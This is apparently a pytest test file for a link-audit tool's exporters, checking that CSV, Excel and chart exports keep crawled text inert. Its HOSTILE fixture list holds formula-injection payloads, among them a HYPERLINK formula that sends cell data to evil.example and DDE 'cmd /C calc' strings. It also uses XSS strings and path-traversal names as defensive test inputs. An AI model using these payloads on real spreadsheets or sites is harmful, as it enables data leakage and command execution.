"""Exports: everything comes out as text, whole, and nothing of a crawled site runs in a spreadsheet or a picture."""

import csv
import os
import re
import struct
import zipfile
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path
from typing import Any
from xml.etree import ElementTree

import altair as alt
import numpy as np
import openpyxl
import pandas as pd
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from linkkit.audit import Audit, run_audit
from linkkit.charts import answer
from linkkit.checks import CHECKS
from linkkit.checks.found import Found, empty_findings, nothing_found
from linkkit.checks.registry import CHAPTERS
from linkkit.deck import ExportError, export_chapter, export_charts, export_findings
from linkkit.deck import workbook as workbook_module
from linkkit.deck.cells import MAX_TEXT, clean_text, csv_text, number_text, sheet_text
from linkkit.deck.definitions import CHECK_COLUMNS, FINDING_COLUMNS, PAGE_COLUMNS, WORDS
from linkkit.deck.files import replacing, safe_name, safe_names
from linkkit.deck.workbook import write_workbook
from linkkit.errors import LinkkitError, SettingsError
from linkkit.schema import FINDINGS, CheckState, Effort, OrphanState, Severity
from linkkit.sources.edges import read_edges
from linkkit.thresholds import Thresholds

START = "https://shop.example/"
LONG_URL = START + "x" * 5000
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    "\x00=1+1",
    "  =1+1",
    "\uff1d1+1",
    "{=1+1}",
    "x;=1+1",
    "x\n=1+1",
    "bell\x07 and \x1f unit \x85 \ufffe\uffff half",
    LONG_URL,
    "مرحبا =1+1 \u202eabc",
    "</script><script>alert(1)</script>",
    "<r><t>bold</t></r>",
    "<r></r></is></c><c><f>1+1</f></c><r></r>",
    "_x0041_ and _x003D_1+1",
    'a "quoted", comma',
    "https://shop.example/ mailto:x@y.example internal:Sheet!A1",
    "1e5",
    " space at both ends ",
]
NS = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"


@pytest.fixture(scope="module")
def audit(tmp_path_factory: pytest.TempPathFactory) -> Audit:
    """A small site: a start page, a shelf of products in two categories, terms in the footer."""
    rows = ["source,target,anchor,position,nofollow"]
    for number in range(8):
        shelf = f"{START}shelf-{number % 2}/"
        rows += [
            f"{START},{shelf},Shelf {number % 2},content,false",
            f"{shelf},{shelf}item-{number},read more,content,false",
            f"{shelf}item-{number},{shelf}item-{number}/care,care,content,false",
            f"{shelf}item-{number},{START}terms,Terms,footer,true",
        ]
    file = tmp_path_factory.mktemp("edges") / "edges.csv"
    file.write_text("\n".join(rows), "utf-8")
    made = run_audit(read_edges(file, start_url=START), Thresholds(max_crawl_depth=2))
    assert made.readiness.sentence
    return made


@pytest.fixture(scope="module")
def workbook(audit: Audit, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The audit's workbook."""
    path = tmp_path_factory.mktemp("book") / "audit.xlsx"
    write_workbook(audit, path, client="Acme")
    return path


def with_findings(audit: Audit, findings: pd.DataFrame) -> Audit:
    """The same audit with other findings, given to one check; what no finding changes is not computed again."""
    results = tuple(replace(result, found=nothing_found()) for result in audit.results)
    return audit.with_results(
        (replace(results[0], found=Found.told(findings)), *results[1:]), audit.thresholds
    )


def findings_of(texts: list[str]) -> pd.DataFrame:
    """One finding per text; every text column that a site can fill holds it."""
    count = len(texts)
    frame = pd.DataFrame(
        {
            "check_id": "orphan-page",
            "chapter": "discovery",
            "severity": "high",
            "url": texts,
            "related_url": texts,
            "value": -np.arange(count, dtype="float64"),
            "threshold": np.nan,
            "unit": "links",
            "impact": np.linspace(1.0, 0.0, count),
            "effort": "small",
            "why": "because",
            "evidence": texts,
            "fix": texts,
        }
    )
    return frame.astype({name: kind for name, kind in FINDINGS.items() if kind != "str"})[list(FINDINGS)]


def read_rows(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.reader(file))


def assert_no_formula(path: Path) -> None:
    """No formula, macro or outside reference in any part of a workbook, and no link that leaves it."""
    with zipfile.ZipFile(path) as book:
        names = book.namelist()
        assert not [name for name in names if re.search("external|vba|connection|sheets/_rels", name, re.I)]
        sheets = {
            str(sheet.get("name"))
            for sheet in ElementTree.fromstring(book.read("xl/workbook.xml")).iter(f"{NS}sheet")
        }
        for name in names:
            if not name.endswith((".xml", ".rels")):
                continue
            content = book.read(name)
            root = ElementTree.fromstring(content)
            assert root.findall(f".//{NS}f") == [], name
            for link in root.iter(f"{NS}hyperlink"):
                assert set(link.attrib) <= {"ref", "location", "display"}, link.attrib
                assert str(link.get("location")).rpartition("!")[0].strip("'") in sheets
            assert b'TargetMode="External"' not in content, name
        for name in names:
            if name.startswith("xl/worksheets/sheet"):
                kinds = {
                    cell.get("t", "n") for cell in ElementTree.fromstring(book.read(name)).iter(f"{NS}c")
                }
                assert kinds <= {"s", "n", "inlineStr"}, name


def sheet_rows(path: Path, sheet: str) -> list[tuple[object, ...]]:
    book = openpyxl.load_workbook(path)
    return list(book[sheet].iter_rows(values_only=True))


# Cells


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("\x00=1", "'=1"),
        ("\t=1", "'\t'=1"),
        (" =1", "' =1"),
        ('"=1', "'\"=1"),
        ("\u200b=1", "'\u200b=1"),
        ("\uff1d1", "'\uff1d1"),
        ("a;=1", "a;'=1"),
        ("a\n@b", "a\n'@b"),
        ("a=b", "a=b"),
        ("2-3", "2-3"),
        ("https://shop.example/?a=1&b=-2", "https://shop.example/?a=1&b=-2"),
        ("a, b; c", "a, b; c"),
        ("it's", "it's"),
        ("a\x07b\x9fc\ufffed", "abcd"),
        ("", ""),
        (None, ""),
        (float("nan"), ""),
    ],
)
def test_csv_text(text: object, expected: str) -> None:
    assert csv_text(text) == expected


def test_numbers_in_csv_are_plain() -> None:
    values = [3.0, -3.0, 0.1, 1234567.0, float("nan"), float("inf"), 1e20]
    assert [number_text(value) for value in values] == ["3", "-3", "0.1", "1234567", "", "inf", "1e+20"]


def test_text_too_long_for_a_cell_is_cut_and_says_so() -> None:
    cut = sheet_text("\U0001f600" * 20_000)
    assert len(cut.encode("utf-16-le")) // 2 <= MAX_TEXT
    assert cut.endswith("... [cut; 20,000 characters in all]")
    assert sheet_text("a" * MAX_TEXT) == "a" * MAX_TEXT


@given(st.text(alphabet=st.characters(), max_size=60))
def test_no_csv_text_begins_like_a_formula(text: str) -> None:
    safe = csv_text(text)
    assert not safe.startswith(("=", "+", "-", "@", "\t", "\r", "\n"))
    assert not safe.lstrip().startswith(("=", "+", "-", "@"))
    assert re.search("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]", safe) is None
    assert safe.replace("'", "") == clean_text(text).replace("'", "")


# Findings


def test_hostile_findings_come_out_as_text(audit: Audit, tmp_path: Path) -> None:
    table, book = export_findings(with_findings(audit, findings_of(HOSTILE)), tmp_path)
    raw = table.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    assert raw.endswith(b"\r\n")
    header, *rows = read_rows(table)
    assert header == list(FINDINGS)
    assert sorted(row[3] for row in rows) == sorted(map(csv_text, HOSTILE))
    assert [row[3] == row[4] == row[11] == row[12] for row in rows] == [True] * len(HOSTILE)
    assert {float(row[5]) for row in rows} == {-float(number) for number in range(len(HOSTILE))}
    assert {row[6] for row in rows} == {""}
    assert_no_formula(book)
    head, *cells = sheet_rows(book, "Findings")
    assert list(head) == [column.heading for column in FINDING_COLUMNS]
    place = list(head).index("Page")
    shown = {str(row[place]).replace("_x000D_", "\r").strip() for row in cells}
    assert shown == {sheet_text(text).strip() for text in HOSTILE}
    assert LONG_URL in shown
    assert {row[list(head).index("Severity")] for row in cells} == {"High"}


@settings(max_examples=4, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    texts=st.lists(
        st.text(alphabet=st.characters(exclude_categories=["Cs"]), max_size=80), min_size=20, max_size=40
    )
)
def test_any_text_survives_both_files(audit: Audit, tmp_path: Path, texts: list[str]) -> None:
    table, book = export_findings(with_findings(audit, findings_of(texts)), tmp_path)
    rows = read_rows(table)[1:]
    assert sorted(row[3] for row in rows) == sorted(map(csv_text, texts))
    assert_no_formula(book)
    with zipfile.ZipFile(book) as parts:
        assert parts.read("xl/worksheets/sheet11.xml").count(b"<row ") == len(texts) + 1


def test_without_findings_the_header_is_whole(audit: Audit, tmp_path: Path) -> None:
    table, book = export_findings(with_findings(audit, empty_findings()), tmp_path)
    assert read_rows(table) == [list(FINDINGS)]
    assert sheet_rows(book, "Findings") == [tuple(column.heading for column in FINDING_COLUMNS)]
    assert_no_formula(book)


def test_the_real_findings_are_all_there(audit: Audit, tmp_path: Path) -> None:
    table, book = export_findings(audit, tmp_path)
    read = pd.read_csv(table, encoding="utf-8-sig", keep_default_na=False, na_values={"threshold": [""]})
    assert len(read) == len(audit.findings) > 5
    assert list(read["url"]) == list(audit.findings["url"])
    np.testing.assert_allclose(read["value"].astype(float), audit.findings["value"])
    np.testing.assert_allclose(read["impact"].astype(float), audit.findings["impact"])
    head, *cells = sheet_rows(book, "Findings")
    assert [row[head.index("Page")] for row in cells] == list(audit.findings["url"])
    assert [row[head.index("Check")] for row in cells] == list(audit.findings["check_id"])


def test_infinite_and_missing_numbers(audit: Audit, tmp_path: Path) -> None:
    findings = findings_of(["a", "b", "c"]).assign(value=[np.inf, np.nan, -1.5])
    table, book = export_findings(with_findings(audit, findings), tmp_path)
    assert {row[5] for row in read_rows(table)[1:]} == {"inf", "", "-1.5"}
    head, *cells = sheet_rows(book, "Findings")
    assert {row[head.index("Value")] for row in cells} == {"Inf", None, -1.5}


def test_workbook_says_what_it_rests_on(audit: Audit, tmp_path: Path) -> None:
    result = replace(audit.results[0], state=CheckState.NOT_APPLICABLE, reason="no data on moon phases")
    broken = replace(audit.results[1], state=CheckState.ERROR, reason="KeyError: 'moon'")
    manifest = replace(
        audit.manifest,
        complete=False,
        stopped_by="=page limit 50",
        settings={"max_pages": 50, "include": ["/a", "/b"], "user_agent": None, "crawl": {"pages": 1234}},
        rejected={"link that is no http(s) URL": 7},
    )
    partial = replace(
        audit,
        results=(result, broken, *audit.results[2:]),
        site=replace(audit.site, manifest=manifest),
    )
    _, book = export_findings(partial, tmp_path)
    text = "\n".join(str(cell) for row in sheet_rows(book, "Summary") for cell in row if cell is not None)
    for expected in (
        START,
        "incomplete (=page limit 50)",
        "max pages: 50; include: /a, /b; crawl, pages: 1,234",
        "link that is no http(s) URL: 7",
        "no data on moon phases",
        "The check itself broke: KeyError: 'moon'",
        "max_crawl_depth",
        "2 clicks instead of 3",
        "reasonable surfer",
        "no signal; impact is PageRank",
    ):
        assert expected in text
    assert partial.readiness.sentence in text
    assert partial.readiness.headline in text
    head, *cells = sheet_rows(book, "Checks")
    states = {
        row[head.index("Short name")]: (row[head.index("State")], row[head.index("Reason")]) for row in cells
    }
    assert states[result.check.id] == ("Not applicable", "no data on moon phases")
    assert states[broken.check.id] == ("Error", "The check itself broke: KeyError: 'moon'")
    assert set(states) == set(CHECKS)
    head, *rows = sheet_rows(book, "Readiness")
    told = {row[0]: row for row in rows}
    verdict = told["Verdict"]
    assert verdict[head.index("State")] == str(partial.readiness.verdict).capitalize()
    assert partial.readiness.sentence in verdict[head.index("Evidence")]
    for gate in partial.readiness.gates:
        assert told[gate.title][head.index("State")] == str(gate.state).capitalize()
        assert told[gate.title][head.index("Limit")] == gate.limit
        assert told[gate.title][head.index("Evidence")] == gate.evidence
    assert_no_formula(book)


def test_sheets_can_be_worked_with(audit: Audit, workbook: Path) -> None:
    book = openpyxl.load_workbook(workbook)
    chapters = [title[:31] for title in CHAPTERS.values()]
    assert book.sheetnames == [
        "Summary",
        "Readiness",
        *chapters,
        "Findings",
        "Pages",
        "Checks",
        "Definitions",
    ]
    sheet = book["Findings"]
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == f"A1:N{len(audit.findings) + 1}"
    assert sheet.column_dimensions["C"].width > 40
    assert sheet["C2"].alignment.wrap_text
    assert sheet.print_title_rows == "$1:$1"
    assert sheet.page_setup.orientation == "landscape"
    # As wide as a page, as long as it takes: a width of one page is what a file leaves unsaid.
    assert sheet.sheet_properties.pageSetUpPr.fitToPage
    assert (sheet.page_setup.fitToWidth, sheet.page_setup.fitToHeight) == (None, 0)
    head, *pages = sheet_rows(workbook, "Pages")
    assert {row[0] for row in pages} == set(audit.metrics["url"])
    depth = {row[0]: row[head.index("Crawl depth")] for row in pages}
    assert depth[START] == 0
    assert depth[f"{START}shelf-0/item-0"] == 2
    assert "Search clicks" not in head


def test_every_chapter_has_a_sheet_below_its_answer(audit: Audit, workbook: Path) -> None:
    book = openpyxl.load_workbook(workbook)
    for chapter, title in CHAPTERS.items():
        sheet = book[title[:31]]
        found = audit.findings[audit.findings["chapter"] == chapter]
        said = answer(audit, chapter)
        lines = [row[0].value for row in sheet.iter_rows(max_row=4)]
        assert lines[:2] == [title, said.sentence]
        first = next(row for row in range(1, 8) if sheet.cell(row, 1).value == "Severity")
        assert sheet.freeze_panes == f"A{first + 1}"
        assert sheet.auto_filter.ref.startswith(f"A{first}:")
        assert sheet.print_title_rows == f"${first}:${first}"
        heads = [cell.value for cell in sheet[first]]
        rows = [row for row in sheet.iter_rows(min_row=first + 1, values_only=True) if any(row)]
        assert [row[heads.index("Page")] for row in rows] == list(found["url"])
        depth = found["url"].map(audit.metrics.set_index("url")["crawl_depth"])
        told = [row[heads.index("Crawl depth")] for row in rows]
        assert [None if pd.isna(each) else each for each in depth] == told


def test_links_lead_from_the_summary_to_chapters_and_back_and_from_findings_to_their_page(
    workbook: Path,
) -> None:
    book = openpyxl.load_workbook(workbook)

    def leads_to(sheet: str) -> set[str]:
        cells = (cell for row in book[sheet].iter_rows() for cell in row)
        return {cell.hyperlink.location for cell in cells if cell.hyperlink}

    assert {f"'{title[:31]}'!A1" for title in CHAPTERS.values()} <= leads_to("Summary")
    for title in CHAPTERS.values():
        assert "'Summary'!A1" in leads_to(title[:31])
    sheet = book["Findings"]
    place = [cell.value for cell in sheet[1]].index("Page") + 1
    for row in range(2, sheet.max_row + 1):
        cell = sheet.cell(row, place)
        target, _, at = cell.hyperlink.location.rpartition("!")
        assert target == "'Pages'"
        assert book["Pages"][at].value == cell.value


def test_colours_follow_the_words_and_numbers(audit: Audit, workbook: Path) -> None:
    book = openpyxl.load_workbook(workbook)

    def rules(sheet: str, heading: str) -> list[Any]:
        cells = {cell.value: cell.column_letter for cell in book[sheet][1]}
        return [
            rule
            for area, given in book[sheet].conditional_formatting._cf_rules.items()
            for rule in given
            if str(area.sqref).startswith(f"{cells[heading]}2:{cells[heading]}")
        ]

    severity = rules("Findings", "Severity")
    assert [rule.formula for rule in severity] == [['"High"'], ['"Medium"'], ['"Low"'], ['"Info"']]
    fills = {rule.dxf.fill.bgColor.rgb for rule in severity}
    assert len(fills) == 4
    assert [rule.type for rule in rules("Findings", "Impact")] == ["dataBar"]
    assert [rule.type for rule in rules("Pages", "Authority")] == ["dataBar"]
    (depth,) = rules("Pages", "Crawl depth")
    assert depth.type == "colorScale"
    assert [float(each.val) for each in depth.colorScale.cfvo] == [1, 3, 6]
    assert [rule.operator for rule in rules("Pages", "Status")] == ["greaterThanOrEqual", "between"]
    assert {rule.formula[0] for rule in rules("Checks", "State")} >= {
        '"Passed"',
        '"Failed"',
        '"Not applicable"',
    }
    (below,) = rules("Readiness", "Value")
    assert below.formula == ["AND(ISNUMBER($C2),$C2<$D2)"]
    # The colour is the rule's alone: a severity that somebody corrects takes the colour of its word.
    assert book["Findings"]["A2"].fill.fill_type is None


def test_every_column_and_word_is_defined(audit: Audit, workbook: Path) -> None:
    assert {column.name for column in FINDING_COLUMNS} == {*FINDINGS, "title"}
    assert set(WORDS["Severity"]) == {str(each) for each in Severity}
    assert set(WORDS["Effort"]) == {str(each) for each in Effort}
    assert set(WORDS["State of a check"]) == {str(each) for each in CheckState}
    assert set(WORDS["Link state"]) == {str(each) for each in OrphanState}
    assert {column.name for column in PAGE_COLUMNS} <= {
        *audit.metrics.columns,
        *audit.site.pages.columns,
        "findings",
    }
    named = {(row[0], row[2]) for row in sheet_rows(workbook, "Definitions")}
    for sheet, columns in (("Findings", FINDING_COLUMNS), ("Checks", CHECK_COLUMNS), ("Pages", PAGE_COLUMNS)):
        assert {(sheet, column.name) for column in columns} <= named
    assert all(len(column.meaning) > 10 for column in (*FINDING_COLUMNS, *CHECK_COLUMNS, *PAGE_COLUMNS))


def test_a_sheet_that_is_full_says_so(audit: Audit, tmp_path: Path) -> None:
    path = tmp_path / "short.xlsx"
    write_workbook(audit, path, max_rows=3)
    assert len(sheet_rows(path, "Findings")) == len(sheet_rows(path, "Pages")) == 4
    text = "\n".join(str(row[1]) for row in sheet_rows(path, "Summary"))
    assert f"Findings holds the first 3 of {len(audit.findings):,} rows" in text
    assert f"Pages holds the first 3 of {len(audit.metrics):,} rows" in text
    assert_no_formula(path)


def test_many_findings_go_to_disk_as_they_come(
    audit: Audit, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(workbook_module, "LARGE", 1_000)
    monkeypatch.setattr(workbook_module, "CHAPTER_ROWS", 100)
    texts = [f"{START}page-{number}" for number in range(1_999)] + ["<r><t>=1+1</t></r>"]
    table, book = export_findings(with_findings(audit, findings_of(texts)), tmp_path)
    assert len(read_rows(table)) == 2_001
    with zipfile.ZipFile(book) as parts:
        # Rows on disk hold their texts themselves, where a workbook in memory has one list of texts.
        assert not [
            name for name in parts.namelist() if "sharedStrings" in name and len(parts.read(name)) > 1_000
        ]
        sheet = parts.read("xl/worksheets/sheet11.xml")
    assert sheet.count(b"<row ") == 2_001
    assert b"<f>" not in sheet
    assert b"<hyperlink" not in sheet
    assert b"&lt;r&gt;&lt;t&gt;=1+1" in sheet
    rows = sheet_rows(book, CHAPTERS["discovery"])
    above = next(place for place, row in enumerate(rows) if row[0] == "Severity")
    assert rows[above - 1][0] == "The first 100 of 2,000 findings; all of them stand on the sheet Findings."
    assert len(rows) == above + 1 + 100


# Charts


def bars(labels: list[str], title: str = "Pages") -> alt.Chart:
    table = pd.DataFrame({"label": labels, "pages": range(1, len(labels) + 1)})
    return alt.Chart(table, title=title).mark_bar(tooltip=True).encode(x="pages:Q", y="label:N")


def png_size(path: Path) -> tuple[int, int]:
    return struct.unpack(">II", path.read_bytes()[16:24])


def test_charts_have_slide_size(tmp_path: Path) -> None:
    chart = bars(["a", "b"])
    row = alt.hconcat(chart, chart)
    written = export_charts({"Depth by section": chart, "both": row}, tmp_path)
    assert [path.name for path in written] == [
        "depth-by-section.png",
        "depth-by-section.svg",
        "both.png",
        "both.svg",
    ]
    assert png_size(written[0]) == (1920, 1080)
    width, height = png_size(written[2])
    assert width <= 1921
    assert height <= 1081
    assert width >= 1919 or height >= 1079
    (small,) = [path for path in export_charts({"s": chart}, tmp_path, scale=1) if path.suffix == ".png"]
    assert png_size(small) == (960, 540)
    with pytest.raises(LinkkitError, match="scale"):
        export_charts({"s": chart}, tmp_path, scale=0)


def test_hostile_text_stays_text_in_pictures(tmp_path: Path) -> None:
    labels = [
        "</text></svg><script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "&lt;b&gt; ]]> \"'",
        "nul\x00 vt\x0b \ufffe half",
        "مرحبا",
    ]
    chart = bars(labels, title="</title><script>alert(2)</script>")
    linked = chart.encode(href=alt.value("javascript:alert(3)"))
    written = export_charts({"a": chart, "b": linked}, tmp_path)
    for path in written:
        if path.suffix == ".svg":
            root = ElementTree.fromstring(path.read_bytes())
            tags = {element.tag.rpartition("}")[2] for element in root.iter()}
            assert tags <= {"svg", "g", "rect", "path", "line", "text", "tspan", "title", "defs", "clipPath"}
            names = {name.rpartition("}")[2] for element in root.iter() for name in element.attrib}
            assert not {name for name in names if name.startswith("on") or name == "href"}
            texts = [element.text for element in root.iter() if element.tag.endswith("}text")]
            assert labels[0] in texts
            assert "nul vt  half" in texts
            assert "مرحبا" in texts
            assert "</title><script>alert(2)</script>" in texts


def test_many_rows_and_the_notebooks_settings_do_not_matter(tmp_path: Path) -> None:
    table = pd.DataFrame({"x": range(6000), "y": range(6000)})
    with alt.data_transformers.enable("json"):
        written = export_charts({"points": alt.Chart(table).mark_point().encode(x="x", y="y")}, tmp_path)
    assert sorted(path.name for path in tmp_path.iterdir()) == ["points.png", "points.svg"]
    assert written[1].read_text("utf-8").count('aria-roledescription="point"') == 6000


@pytest.mark.parametrize(
    "chart",
    [
        alt.Chart("http://shop.example/data.csv").mark_bar().encode(x="x:N"),
        alt.Chart(alt.UrlData(url="file:///etc/hostname")).mark_bar().encode(x="x:N"),
        alt.layer(alt.Chart(pd.DataFrame({"u": ["http://x.example/a.png"]})).mark_image().encode(url="u:N")),
        alt.Chart(pd.DataFrame({"a": [1]})).mark_bar().encode(x="b"),
    ],
)
def test_charts_that_fetch_or_are_not_valid_are_refused(chart: alt.Chart, tmp_path: Path) -> None:
    with pytest.raises(ExportError, match="chart 'bad'"):
        export_charts({"bad": chart}, tmp_path)
    assert list(tmp_path.iterdir()) == []


# Names, folders, faults


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("Depth by section", "depth-by-section"),
        ("../../etc/passwd", "etc-passwd"),
        ("C:\\x\\y.png", "c-x-y-png"),
        ("", "chart"),
        ("...", "chart"),
        ("CON", "con-chart"),
        ("lpt1", "lpt1-chart"),
        ("Tiefe über alles", "tiefe-über-alles"),
        ("a\x00b\n", "a-b"),
        ("<script>", "script"),
    ],
)
def test_safe_names(name: str, expected: str) -> None:
    assert safe_name(name, fallback="chart") == expected


@given(st.lists(st.text(alphabet=st.characters(), max_size=200), unique=True, max_size=6))
def test_safe_names_are_safe_and_differ(names: list[str]) -> None:
    chosen = safe_names(names, fallback="chart")
    assert list(chosen) == names
    assert len({each.casefold() for each in chosen.values()}) == len(names)
    for each in chosen.values():
        assert re.fullmatch(r"[\w-]+", each)
        assert len(each.encode("utf-8")) < 200


def test_a_chapter_is_written_and_the_rest_left(audit: Audit, tmp_path: Path) -> None:
    mine = tmp_path / "notes.txt"
    mine.write_text("mine")
    (tmp_path / "findings-anchors.csv").write_text("old")
    written = export_chapter(audit, "anchors", {"depth": bars(["a"])}, tmp_path, client="Acme")
    assert mine.read_text() == "mine"
    assert {path.relative_to(tmp_path).as_posix() for path in written} == {
        "findings-anchors.csv",
        "checks-anchors.csv",
        "about.txt",
        "charts/depth.png",
        "charts/depth.svg",
    }
    (kept,) = (tmp_path / "earlier").rglob("*.csv")
    assert (kept.name, kept.read_text()) == ("findings-anchors.csv", "old")
    on_disk = {path for path in tmp_path.rglob("*") if path.is_file()}
    assert on_disk == {mine, kept, *written}
    chapter = read_rows(tmp_path / "findings-anchors.csv")
    assert {row[1] for row in chapter[1:]} == {"anchors"}
    assert len(chapter) - 1 == int((audit.findings["chapter"] == "anchors").sum()) > 0
    assert len(read_rows(tmp_path / "checks-anchors.csv")) - 1 == sum(
        check.chapter == "anchors" for check in CHECKS.values()
    )
    told = (tmp_path / "about.txt").read_text("utf-8-sig")
    assert f"Client: Acme\nStart page: {START}" in told
    assert "max_crawl_depth: 2 clicks instead of 3." in told


def test_unknown_chapter(audit: Audit, tmp_path: Path) -> None:
    with pytest.raises(SettingsError, match="unknown chapter 'anchor'; known are discovery"):
        export_chapter(audit, "anchor", {}, tmp_path)


def test_a_fault_leaves_the_old_file_and_nothing_else(tmp_path: Path) -> None:
    target = tmp_path / "findings.csv"
    target.write_text("old")

    def fail() -> None:
        with replacing(target) as partial:
            partial.write_text("half")
            raise RuntimeError("stop")

    with pytest.raises(RuntimeError, match="stop"):
        fail()
    assert [path.name for path in tmp_path.iterdir()] == ["findings.csv"]
    assert target.read_text() == "old"


def test_a_locked_file_says_what_to_do(audit: Audit, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (tmp_path / "findings.xlsx").write_text("open in Excel")
    rename: Callable[..., None] = os.replace

    def locked(source: Path, target: Path) -> None:
        if Path(target).suffix == ".xlsx":
            raise PermissionError(13, "Permission denied")
        rename(source, target)

    monkeypatch.setattr(os, "replace", locked)
    with pytest.raises(
        LinkkitError, match=r"findings\.xlsx cannot be written.*left as it is.*close it there"
    ):
        export_findings(audit, tmp_path)
    assert sorted(path.name for path in tmp_path.iterdir()) == ["findings.csv", "findings.xlsx"]
    assert (tmp_path / "findings.xlsx").read_text() == "open in Excel"


def test_targets_that_cannot_be_written(audit: Audit, tmp_path: Path) -> None:
    file = tmp_path / "file"
    file.write_text("x")
    with pytest.raises(ExportError, match="is a file, not a folder"):
        export_findings(audit, file)
    with pytest.raises(ExportError, match="cannot be made"):
        export_findings(audit, file / "below")
    (tmp_path / "findings.csv").mkdir()
    with pytest.raises(ExportError, match="is a folder, a file of that name"):
        export_findings(audit, tmp_path)
    assert issubclass(ExportError, OSError)


def test_names_of_findings_are_made_safe(audit: Audit, tmp_path: Path) -> None:
    written = export_findings(audit, tmp_path / "new" / "folder", name="../Acme: Q1")
    assert [path.name for path in written] == ["acme-q1.csv", "acme-q1.xlsx"]
    assert {path.parent for path in written} == {tmp_path / "new" / "folder"}
